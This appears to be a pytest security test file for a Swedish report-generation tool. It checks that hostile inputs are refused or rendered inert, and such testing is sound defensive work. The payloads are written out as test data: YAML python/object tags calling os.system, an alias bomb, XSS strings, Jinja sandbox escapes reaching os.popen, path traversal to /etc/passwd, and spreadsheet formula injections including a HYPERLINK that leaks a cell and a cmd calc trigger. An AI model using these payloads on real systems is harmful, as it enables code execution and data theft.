"""Hostile input and personal data: every attack below ends in a safe outcome, tried through the command line.

Hostile YAML, markup and URLs in data and config text, template overrides that reach for
Python internals, paths that leave the config's folder, personal identity numbers where
they should not be, and cells that a spreadsheet would run as formulas.
"""

from __future__ import annotations

import json
import socket
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from isu_engine.render.html import shared_templates_dir

pytestmark = pytest.mark.plugins("fit", "loke")

FIT_HEADER = "client_id;session_date;age;ors_total;srs_total"
FIT_DATA = FIT_HEADER + "\n" + "".join(f"K{i};2025-0{1 + j}-10;30;{15 + j};38\n" for i in range(10) for j in range(2))
PERSONAL_NUMBER = "19121212-1212"  # Skatteverket's published test number


def write(folder: Path, files: dict[str, str]) -> Path:
    """Write the files (dedented) and return the path of the first, the config."""
    paths = []
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
        paths.append(path)
    return paths[0]


def one_line_error(result, *fragments: str) -> None:
    assert result.code == 2, (result.out, result.err)
    assert result.err.count("\n") == 1 and "Traceback" not in result.err, result.err
    for fragment in fragments:
        assert fragment in result.err, result.err


# --- hostile YAML --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text, fragment", [
    ("municipality: !!python/object/apply:os.system ['touch {marker}']\n", "python/object/apply"),
    ("municipality: !!python/name:os.system\n", "python/name"),
    ("unit: !include /etc/passwd\n", "!include"),
    ("period: !!python/object/new:datetime.date [2025, 1, 1]\n", "python/object/new"),
])
def test_yaml_with_python_or_unknown_tags_is_refused_without_running_anything(cli, tmp_path, text, fragment):
    marker = tmp_path / "pwned"
    config = write(tmp_path, {"config.yaml": text.format(marker=marker) + "datasets:\n  a: {model: fit, source: d.csv}\n",
                              "d.csv": FIT_DATA})
    result = cli("validate", config)
    one_line_error(result, "config.yaml:rad 1", fragment)
    assert not marker.exists()


def test_an_alias_bomb_is_refused_quickly(cli, tmp_path):
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
              f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]" for i in range(8)]
    lines += [f"c{i}: [*i, *i, *i, *i, *i, *i, *i, *i, *i, *i]" for i in range(30)]
    config = write(tmp_path, {"config.yaml": "\n".join(lines) + "\ndatasets:\n  a: {model: fit, source: d.csv}\n"})
    started = time.monotonic()
    result = cli("validate", config)
    one_line_error(result, "config.yaml", "alias")
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("text", [
    "unit: " + "[" * 10_000 + "]" * 10_000 + "\n",
    "unit: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n",
    "".join("  " * depth + f"k{depth}:\n" for depth in range(200)) + "  " * 200 + "1\n",
])
def test_deep_nesting_is_refused(cli, tmp_path, text):
    config = write(tmp_path, {"config.yaml": "datasets:\n  a: {model: fit, source: d.csv}\n" + text})
    one_line_error(cli("validate", config), "config.yaml", "djupare")


def test_a_huge_config_is_refused_before_it_is_parsed(cli, tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("unit: '" + "x" * 6_000_000 + "'\ndatasets:\n  a: {model: fit, source: d.csv}\n", encoding="utf-8")
    one_line_error(cli("validate", config), "config.yaml", "byte")


def test_a_model_with_python_tags_in_a_plugins_dir_is_a_named_broken_plugin(cli, tmp_path):
    marker = tmp_path / "pwned"
    config = write(tmp_path, {
        "config.yaml": "plugins_dirs: [models]\ndatasets:\n  a: {model: fit, source: d.csv}\n",
        "d.csv": FIT_DATA,
        "models/evil/model.yaml": f"name: evil\nfields: !!python/object/apply:os.system ['touch {marker}']\n",
    })
    result = cli("validate", config)
    assert result.code == 0 and "evil" in result.err and "python/object/apply" in result.err
    assert not marker.exists()
    one_line_error(cli("validate", config, "--strict-plugins"), "evil")


# --- markup, scripts and URLs in data and config text ----------------------------------------------------

ATTACKS = {
    "script": "<script>alert('x')</script>",
    "attribute": '" onload="alert(1)',
    "image": "<img src=x onerror=alert(1)>",
    "file": "file:///etc/passwd",
    "http": "http://127.0.0.1:9/x",
    "css": "</style><style>body{background:url(http://127.0.0.1:9/css)}</style>",
    "import": "@import url(http://127.0.0.1:9/i.css);",
}


class Document(HTMLParser):
    """Tags, attributes and visible text of an HTML document."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)

    def handle_data(self, data):
        self.text.append(data)


def loke_project(folder: Path, texts: dict[str, str]) -> Path:
    """A LOKE dataset with `texts` as the unit's own referral categories (in the config and in the data), own
    category labels, own field titles and the config's names."""
    values = list(texts.values())
    rows = ["case_id;start_date;referral;intervention;school"]
    for index in range(70):
        rows.append(f'A{index};2025-0{1 + index % 9}-1{index % 10};"{values[index % 7].replace(chr(34), chr(34) * 2)}";'
                    f'Stöd;{"ja" if index % 2 else "nej"}')
    quoted = {name: json.dumps(text) for name, text in texts.items()}
    return write(folder, {
        "config.yaml": f"""
            municipality: {quoted["script"]}
            unit: {quoted["css"]}
            period: {{start: "2025-01-01", end: "2025-12-31"}}
            datasets:
              a:
                model: loke
                title: {quoted["attribute"]}
                source: d.csv
                categories:
                  referral: {json.dumps(values)}
                fields:
                  - name: school
                    type: string
                    title: {quoted["image"]}
                    categories:
                      - {{value: ja, label: {quoted["file"]}}}
                      - {{value: nej, label: {quoted["import"]}}}
        """,
        "d.csv": "\n".join(rows) + "\n",
    })


@pytest.fixture
def hostile_project(tmp_path) -> Path:
    return loke_project(tmp_path / "hostile", ATTACKS)


def test_markup_and_urls_from_data_and_config_are_shown_as_text_in_html(cli, hostile_project, tmp_path):
    plain = loke_project(tmp_path / "plain", {name: f"ord{index}" for index, name in enumerate(ATTACKS)})
    assert cli("report", plain, "--out", tmp_path / "plain-out", "--format", "html").code == 0
    result = cli("report", hostile_project, "--out", tmp_path / "out", "--format", "html,json")
    assert result.code == 0, result.err
    html = (tmp_path / "out" / "a.html").read_text(encoding="utf-8")
    document = Document(html)
    # The same elements as a report with plain words in the same places: nothing from the text became markup.
    assert document.tags == Document((tmp_path / "plain-out" / "a.html").read_text(encoding="utf-8")).tags
    assert not [name for name, _ in document.attributes if name.startswith("on")]
    urls = [value for name, value in document.attributes if name in ("href", "src")]
    assert all(url.startswith("#") for url in urls)
    shown = "".join(document.text)
    for name, attack in ATTACKS.items():
        assert attack in shown, name  # each attack reached the page, as text


def comparison_project(folder: Path, texts: dict[str, str]) -> Path:
    """Two datasets over one LOKE file, compared, with `texts` in their titles and in the reflection log."""
    rows = ["case_id;start_date;end_date;end_reason"]
    rows += [f"A{index};2025-0{1 + index % 9}-1{index % 10};2025-1{index % 3}-20;planerat avslut" for index in range(60)]
    log = [{"date": "2025-01-15", "period": "2024", "dataset": name, "topic": texts["script"],
            "interpretation": texts["image"], "decision": texts["css"], "follow_up": texts["http"]}
           for name in ("a", "b")]
    return write(folder, {
        "config.yaml": f"""
            period: {{start: "2025-01-01", end: "2025-12-31"}}
            reflection_log: log.yaml
            datasets:
              a: {{model: loke, title: {json.dumps(texts["attribute"])}, source: d.csv}}
              b: {{model: loke, title: {json.dumps(texts["file"])}, source: d.csv}}
            compare: [a, b]
        """,
        "d.csv": "\n".join(rows) + "\n",
        "log.yaml": json.dumps(log, ensure_ascii=False),
    })


def test_markup_in_the_reflection_log_and_the_comparison_is_shown_as_text(cli, tmp_path):
    plain = comparison_project(tmp_path / "plain", {name: f"ord{index}" for index, name in enumerate(ATTACKS)})
    hostile = comparison_project(tmp_path / "hostile", ATTACKS)
    for command, page in (("report", "a.html"), ("compare", "comparison.html")):
        assert cli(command, plain, "--out", tmp_path / "plain-out", "--format", "html").code == 0
        result = cli(command, hostile, "--out", tmp_path / "out", "--format", "html")
        assert result.code == 0, result.err
        document = Document((tmp_path / "out" / page).read_text(encoding="utf-8"))
        assert document.tags == Document((tmp_path / "plain-out" / page).read_text(encoding="utf-8")).tags, page
        assert not [name for name, _ in document.attributes if name.startswith("on")]
        assert all(url.startswith("#") for name, url in document.attributes if name in ("href", "src"))
        shown = "".join(document.text)
        assert ATTACKS["attribute"] in shown, page  # the first dataset's title
    report = "".join(Document((tmp_path / "out" / "a.html").read_text(encoding="utf-8")).text)
    assert ATTACKS["script"] in report and ATTACKS["css"] in report  # the log's topic and decision, as text


@pytest.mark.slow
def test_the_pdf_renders_hostile_values_without_fetching_anything(cli, hostile_project, tmp_path, monkeypatch,
                                                                  pdf_fetches):
    def no_network(*args, **kwargs):
        raise AssertionError(f"network connection attempted: {args}")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    result = cli("report", hostile_project, "--out", tmp_path / "out", "--format", "pdf")
    assert result.code == 0, result.err
    assert (tmp_path / "out" / "a.pdf").read_bytes().startswith(b"%PDF")
    shared = shared_templates_dir().as_uri()
    asked = [url for url, _ in pdf_fetches]
    assert asked and all(url.startswith(shared) or url.startswith("data:") for url in asked), asked


@pytest.mark.slow
def test_a_municipality_template_cannot_fetch_or_include_files(cli, tmp_path, pdf_fetches):
    asked = pdf_fetches
    config = write(tmp_path, {
        "config.yaml": "templates_dir: own\ndatasets:\n  a: {model: fit, source: d.csv}\n",
        "d.csv": FIT_DATA,
        "own/base.html": """
            {% extends "shared/base.html" %}
            {% block title_page %}{{ super() }}<img src="file:///etc/passwd" alt="">
            <link rel="stylesheet" href="http://127.0.0.1:9/x.css">{% endblock %}
        """,
    })
    result = cli("report", config, "--out", tmp_path / "out", "--format", "pdf")
    assert result.code == 0, result.err
    refused = {url for url, served in asked if not served}
    assert {"file:///etc/passwd", "http://127.0.0.1:9/x.css"} <= refused
    assert all(url.startswith(shared_templates_dir().as_uri()) for url, served in asked if served)


# --- template overrides ----------------------------------------------------------------------------------


@pytest.mark.parametrize("template, fragment", [
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "__class__"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "__init__"),
    ("{{ lipsum.__globals__['os'].system('touch pwned') }}", "__globals__"),
    ("{{ self.__dict__ }}", "__dict__"),
    ("{% include '../../../../etc/passwd' %}", "etc/passwd"),
    ("{% include '/etc/passwd' %}", "etc/passwd"),
    ("{% extends '../config.yaml' %}", "config.yaml"),
    # the records behind a printed number: its units, and the keys of every client (K0 … K9)
    ("{% for s in sections %}{% for c in s.all_cells() %}{% if c.figure and c.figure.universe %}"
     "{{ c.figure.universe.index.tolist() }}{% endif %}{% endfor %}{% endfor %}", "figure"),
])
def test_template_overrides_that_reach_for_python_or_files_are_one_error(cli, tmp_path, template, fragment):
    config = write(tmp_path, {"config.yaml": "templates_dir: own\ndatasets:\n  a: {model: fit, source: d.csv}\n",
                              "d.csv": FIT_DATA, "own/base.html": "<p>\n" + template + "\n</p>\n"})
    result = cli("report", config, "--out", tmp_path / "out", "--format", "html")
    one_line_error(result, "base.html", "rad 2", fragment)
    assert not (tmp_path / "out" / "a.html").exists()
    assert not (tmp_path / "pwned").exists() and "root:" not in result.out + result.err
    assert "K1" not in result.out + result.err


def test_a_template_loop_beyond_the_sandbox_limit_stops_without_output(cli, tmp_path):
    config = write(tmp_path, {"config.yaml": "templates_dir: own\ndatasets:\n  a: {model: fit, source: d.csv}\n",
                              "d.csv": FIT_DATA, "own/base.html": "{% for i in range(10**9) %}x{% endfor %}\n"})
    result = cli("report", config, "--out", tmp_path / "out", "--format", "html")
    assert result.code == 2 and result.err.count("\n") == 1 and "Traceback" not in result.err
    assert "base.html" in result.err
    assert not (tmp_path / "out" / "a.html").exists()


# --- paths ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("setting", [
    "datasets:\n  a: {model: fit, source: ../../etc/passwd}\n",
    "datasets:\n  a: {model: fit, source: /etc/passwd}\n",
    "datasets:\n  a: {model: fit, source: [d.csv, 'data/../../outside.csv']}\n",
    "datasets:\n  a: {model: fit, source: link.csv}\n",
    "datasets:\n  a: {model: fit, source: 'linked/*.csv'}\n",
    "datasets:\n  a: {model: fit, source: '**/*.csv'}\n",
    "templates_dir: ../x\ndatasets:\n  a: {model: fit, source: d.csv}\n",
    "templates_dir: /\ndatasets:\n  a: {model: fit, source: d.csv}\n",
    "templates_dir: own\ndatasets:\n  a: {model: fit, source: d.csv}\n",
    "plugins_dirs: [/]\ndatasets:\n  a: {model: fit, source: d.csv}\n",
    "plugins_dirs: [models]\ndatasets:\n  a: {model: fit, source: d.csv}\n",
    "reflection_log: /etc/passwd\ndatasets:\n  a: {model: fit, source: d.csv}\n",
])
def test_paths_that_leave_the_config_folder_are_refused_unless_allowed(cli, tmp_path, setting):
    project = tmp_path / "project"
    config = write(project, {"config.yaml": setting, "d.csv": FIT_DATA})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text(FIT_DATA, encoding="utf-8")
    (outside / "base.html").write_text("{{ 1 }}", encoding="utf-8")
    (outside / "model.yaml").write_text("name: outside\nfields: [{name: id}]\n", encoding="utf-8")
    (tmp_path / "outside.csv").write_text(FIT_DATA, encoding="utf-8")
    (project / "link.csv").symlink_to(outside / "secret.csv")
    (project / "linked").symlink_to(outside)
    (project / "own").mkdir()
    (project / "own" / "base.html").symlink_to(outside / "base.html")
    (project / "models").mkdir()
    (project / "models" / "out").symlink_to(outside)
    for command in (["validate"], ["report", "--out", str(project / "out"), "--format", "json"]):
        result = cli(*command[:1], config, *command[1:])
        one_line_error(result, "config.yaml:rad", "allow_outside_paths")
    config.write_text("allow_outside_paths: true\n" + setting, encoding="utf-8")
    assert "allow_outside_paths" not in cli("validate", config).err


def test_data_outside_the_folder_is_read_when_allowed(cli, tmp_path):
    (tmp_path / "shared.csv").write_text(FIT_DATA, encoding="utf-8")
    config = write(tmp_path / "project", {
        "config.yaml": "allow_outside_paths: true\ndatasets:\n  a: {model: fit, source: ../shared.csv}\n"})
    result = cli("validate", config)
    assert result.code == 0 and "20 rader lästa" in result.out


# --- personal data -------------------------------------------------------------------------------------


def test_a_personal_number_in_any_field_never_reaches_a_file_or_the_terminal(cli, tmp_path):
    config = write(tmp_path, {
        "config.yaml": "datasets:\n  a: {model: fit, source: d.csv}\n",
        "d.csv": (f"{FIT_HEADER};{PERSONAL_NUMBER};Anteckning\n"
                  f"K1;2025-01-10;{PERSONAL_NUMBER};20;38;x;\n"          # in a number field
                  f"K2;2025-01-10;30;20;191212121212;x;\n"               # twelve digits in a number field
                  f"K3;{PERSONAL_NUMBER};30;20;38;x;\n"                  # in a date field
                  f"K4;2025-01-10;30;20;38;x;ring {PERSONAL_NUMBER}\n"),  # in a column the model does not use
    })
    result = cli("validate", config, "--out", tmp_path / "out")
    assert result.code == 1
    validation = pd.read_csv(tmp_path / "out" / "validation.csv", dtype=str, keep_default_na=False)
    assert sorted(set(validation.loc[validation["check"] == "personal_number", "row"])) == ["2", "3", "4"]
    everything = result.out + result.err + "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").iterdir())
    for writing in (PERSONAL_NUMBER, "191212121212", "1212121212"):
        assert writing not in everything
    assert "Anteckning" in result.out and "********-****" in result.out  # the heading is named, the number masked


def test_the_quarantine_file_holds_only_mapped_fields_the_row_and_the_reason(cli, tmp_path):
    config = write(tmp_path, {
        "config.yaml": "datasets:\n  a: {model: fit, source: d.csv}\n",
        "d.csv": f"{FIT_HEADER};Namn;Anteckning\nK1;2025-01-10;300;20;38;Anna Andersson;svår period\n",
    })
    assert cli("validate", config, "--out", tmp_path / "out").code == 1
    text = (tmp_path / "out" / "quarantine-a.csv").read_text(encoding="utf-8")
    quarantine = pd.read_csv(tmp_path / "out" / "quarantine-a.csv", dtype=str)
    from isu_engine.configure.plugins import load_registry
    fields = list(load_registry().model("fit").fields)
    assert list(quarantine.columns) == ["row", "reason", *fields]
    assert "Anna" not in text and "svår" not in text


def test_pseudonymised_identifiers_do_not_appear_in_any_output(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("ISU_PSEUDONYM_KEY", "a-long-enough-secret-key-for-tests")
    names = [f"Klient Nummer{i}" for i in range(10)]
    rows = [FIT_HEADER] + [f"{name};2025-0{1 + j}-10;30;{15 + j};{38 if i else 99}" for i, name in enumerate(names)
                           for j in range(2)]
    config = write(tmp_path, {"config.yaml": "pseudonymize: {columns: [client_id]}\n"
                                             "datasets:\n  a: {model: fit, source: d.csv}\n",
                              "d.csv": "\n".join(rows) + "\n"})
    assert cli("validate", config, "--out", tmp_path / "out").code == 1
    assert cli("report", config, "--out", tmp_path / "out", "--format", "html,json,xlsx").code == 0
    quarantine = pd.read_csv(tmp_path / "out" / "quarantine-a.csv", dtype=str)
    assert quarantine["client_id"].str.fullmatch(r"p_[0-9a-f]{16}").all()
    for path in (tmp_path / "out").iterdir():
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            content = " ".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
        else:
            content = path.read_text(encoding="utf-8")
        assert "Nummer" not in content, path.name


def test_the_pseudonym_key_cannot_be_written_in_the_config(cli, tmp_path):
    config = write(tmp_path, {"config.yaml": "pseudonymize: {columns: [client_id], key: hemlig-nyckel-1234567890}\n"
                                             "datasets:\n  a: {model: fit, source: d.csv}\n", "d.csv": FIT_DATA})
    one_line_error(cli("validate", config), "config.yaml:rad 1", "'key'")


def test_cells_a_spreadsheet_would_run_are_made_inert_in_the_internal_files(cli, tmp_path):
    config = write(tmp_path, {
        "config.yaml": "datasets:\n  a: {model: fit, source: d.csv}\n",
        "d.csv": (f"{FIT_HEADER}\n=HYPERLINK(\"http://127.0.0.1:9/?\"&A1);2025-01-10;=1+2;20;38\n"
                  "@SUM(1+1);2025-01-10;-5;20;38\n+cmd|' /C calc'!A0;2025-01-10;30;-1;38\n"),
    })
    assert cli("validate", config, "--out", tmp_path / "out").code == 1
    for name in ("validation.csv", "quarantine-a.csv"):
        frame = pd.read_csv(tmp_path / "out" / name, dtype=str, keep_default_na=False)
        cells = pd.Series(frame.to_numpy().ravel())
        active = cells[cells.str.match(r"[=+@]") | (cells.str.match("-") & ~cells.str.fullmatch(r"-[\d.,]+"))]
        assert active.empty, (name, active.tolist())
    quarantine = pd.read_csv(tmp_path / "out" / "quarantine-a.csv", dtype=str)
    assert quarantine["client_id"].tolist() == ["'=HYPERLINK(\"http://127.0.0.1:9/?\"&A1)", "'@SUM(1+1)",
                                                "'+cmd|' /C calc'!A0"]
    assert quarantine["age"].tolist() == ["'=1+2", "-5", "30"]  # a plain negative number stays a number
    validation = pd.read_csv(tmp_path / "out" / "validation.csv", dtype=str)
    assert validation["value"].tolist() == ["'=1+2", "-5", "-1"]
